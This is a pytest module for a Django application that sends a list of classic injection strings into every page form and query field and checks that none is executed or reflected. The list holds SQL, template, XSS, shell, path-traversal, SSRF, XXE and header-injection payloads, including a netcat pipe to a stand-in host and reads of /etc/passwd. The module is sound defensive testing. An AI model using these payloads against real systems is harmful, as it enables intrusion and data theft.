"""Strings that attack a database, a template, a page or a shell, in every field and every query.

The strings are the classical ones, written down by hand after the OWASP testing guide and lists such as
minimaxir's big-list-of-naughty-strings. ``make test`` gives each field one of them in turn, ``make sweep``
gives each field all of them.
"""

import re
from collections import Counter
from copy import copy
from html.parser import HTMLParser

import pytest
from django.db import transaction
from django.http import HttpResponse
from django.urls import reverse

from tests.house.source import product_files
from tests.journeys.test_every_page import NOT_PAGES, ONLY_POST
from tests.permissions.test_matrix import EVERYONE, LET_IN, SIGNED_IN
from tests.permissions.world import build

pytestmark = pytest.mark.django_db
MARK = "kq7"
PRODUCT = 31337 * 3
STRINGS = (
    "' OR '1'='1",
    "'; DROP TABLE people_account; --",
    "1); DELETE FROM people_child WHERE (1=1",
    "' UNION SELECT password FROM people_account --",
    "1' AND pg_sleep(5)::text = '",
    "\\'; SELECT version(); --",
    '" OR ""="',
    "%' OR name LIKE '%",
    "admin'/*",
    "$$; SELECT 1; $$",
    "{{ 31337*3 }}",
    "${31337*3}",
    "#{31337*3}",
    "<%= 31337*3 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{0.__class__.__init__.__globals__}",
    "%(name)s %s %n %x %d",
    f"<script>alert('{MARK}')</script>",
    f"\"><img src=x onerror=alert('{MARK}')>",
    f"'><svg onload=alert('{MARK}')>",
    f"</textarea><script>{MARK}</script>",
    f"javascript:alert('{MARK}')",
    f"\" autofocus onfocus=alert('{MARK}') x=\"",
    "; cat /etc/passwd",
    "$(reboot)",
    "`id`",
    "| nc evil.example 1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "*)(uid=*))(|(uid=*",
    "' or count(/*)=1 or '",
    "x\r\nSet-Cookie: a=b",
    "\x00",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "\u202e\u2066\u200f",
    "9" * 400,
    "-9223372036854775809",
    "1e999",
    "NaN",
    "٣٢١",
    "True",
    "null",
    "[]",
    '{"a": {"b": 1}}',
    "x" * 5000,
)
BAD_SIGNS = (
    f"<script>alert('{MARK}",
    f"<img src=x onerror=alert('{MARK}",
    f"<svg onload=alert('{MARK}",
    str(PRODUCT),
)
WALKERS = ("visitor", "mother", "lead", "manager", "office", "editor", "officer", "operator")


class Forms(HTMLParser):
    """The forms of a page: method, address, and the names of their fields with what stands in them."""

    def __init__(self):
        super().__init__()
        self.forms, self.open = [], None

    def handle_starttag(self, tag, attrs):
        found = dict(attrs)
        if tag == "form":
            self.open = {
                "method": found.get("method", "get"),
                "action": found.get("action") or "",
                "fields": {},
            }
            self.forms.append(self.open)
        elif self.open is not None and tag in {"input", "select", "textarea", "button"} and found.get("name"):
            self.open["fields"].setdefault(found["name"], found.get("value") or "")

    def handle_endtag(self, tag):
        if tag == "form":
            self.open = None


def forms_on(text):
    reader = Forms()
    reader.feed(text)
    return reader.forms


ASKS = re.compile(r'\.GET\.get(?:list)?\(\s*"([^"]+)"')


def asked_by_query():
    """Every name that the code asks the query for, beside the fields of forms."""
    for path in product_files():
        yield from ASKS.findall(path.read_text(encoding="utf-8"))


QUERY = sorted(set(asked_by_query()))


def pages():
    """Every page with somebody who may open it; pages of everybody as a visitor and somebody logged in."""
    for name in sorted(set(LET_IN) - NOT_PAGES - ONLY_POST - {"account_logout"}):
        allowed = LET_IN[name]
        if allowed == EVERYONE:
            yield name, "visitor"
        elif allowed == SIGNED_IN:
            yield name, "mother"
        else:
            yield (
                name,
                next(who for who in WALKERS if who in allowed)
                if allowed & set(WALKERS)
                else sorted(allowed)[0],
            )


def in_turn(number, fields):
    """Each field another of the strings, another one in each round."""
    return {name: STRINGS[(number * 7 + place) % len(STRINGS)] for place, name in enumerate(fields)}


def is_wrong(answer):
    if answer.status_code >= 500:
        return f"{answer.status_code}"
    text = (
        "" if answer.streaming or "text/html" not in answer.headers.get("Content-Type", "") else answer.text
    )
    return next((f"interpreted: {sign}" for sign in BAD_SIGNS if sign in text), "")


def questions(browser, address):
    """What a page can be asked: every name by query, and each of its forms that stays in the application."""
    opened = browser.get(address)
    yield "get", address, dict.fromkeys(QUERY)
    for form in forms_on(opened.text) if opened.status_code == 200 and not opened.streaming else []:
        where = form["action"] if form["action"].startswith("/") else address
        if "abmelden" not in where:
            yield form["method"].lower(), where, form["fields"]


def sent(browser, method, where, typed):
    """The answer, with whatever it wrote taken back."""
    with transaction.atomic():
        answer = getattr(browser, method)(where, typed)
        transaction.set_rollback(True)
    return answer


def attack(world, rounds):
    """Ask every page everything, each field another string; how much was asked, and what went wrong."""
    count, wrong, browsers = Counter(), {}, {}
    for number, (name, who) in enumerate(pages()):
        browser = browsers.setdefault(who, world.browser(who))
        cookies, address = copy(browser.cookies), reverse(name, kwargs=world.arguments.get(name))
        for method, where, fields in list(questions(browser, address)):
            for turn in rounds:
                browser.cookies = copy(cookies)
                typed = in_turn(number + turn, [field for field in fields if field != "csrfmiddlewaretoken"])
                count.update(fields=len(typed), sent=1)
                if said := is_wrong(sent(browser, method, where, typed)):
                    wrong[f"{who} {method} {where} ({name})"] = said
        browser.cookies = cookies
    print(f"\nStrings: {count['fields']} fields in {count['sent']} requests on {number + 1} pages")
    return count, wrong


def test_no_page_takes_a_string_for_code_whatever_is_asked():
    count, wrong = attack(build(), rounds=[0])
    assert not wrong
    assert count["sent"] > 150 and count["fields"] > 1000


@pytest.mark.sweep
def test_every_field_withstands_every_string():
    count, wrong = attack(build(), rounds=range(len(STRINGS)))
    assert not wrong
    assert count["fields"] > 50_000


def test_what_a_form_kept_is_shown_as_it_was_typed():
    """Format strings, templates and markup come back as text."""
    world = build()
    browser = world.browser("mother")
    name = {"given_name": "{0.__class__} {{7*7}} %s"[:40], "family_name": "<b>x</b>", "language": "de"}
    answer = browser.post("/de/konto/", name)
    shown = browser.get("/de/konto/").text if answer.status_code == 302 else answer.text
    assert "&lt;b&gt;" in shown and "<b>x</b>" not in shown
    assert "{{7*7}}" in shown and "{0.__class__}" in shown


def test_the_reader_of_forms_would_find_what_it_looks_for():
    found = forms_on("<form method=post action='/x/'><input name=a value=1><select name=b></select></form>")
    assert found == [{"method": "post", "action": "/x/", "fields": {"a": "1", "b": ""}}]
    assert len(QUERY) > 10 and len(set(STRINGS)) == len(STRINGS) > 40


@pytest.mark.parametrize("sign", BAD_SIGNS)
def test_an_interpreted_string_would_be_noticed(sign):
    assert is_wrong(HttpResponse(f"<p>{sign}</p>"))
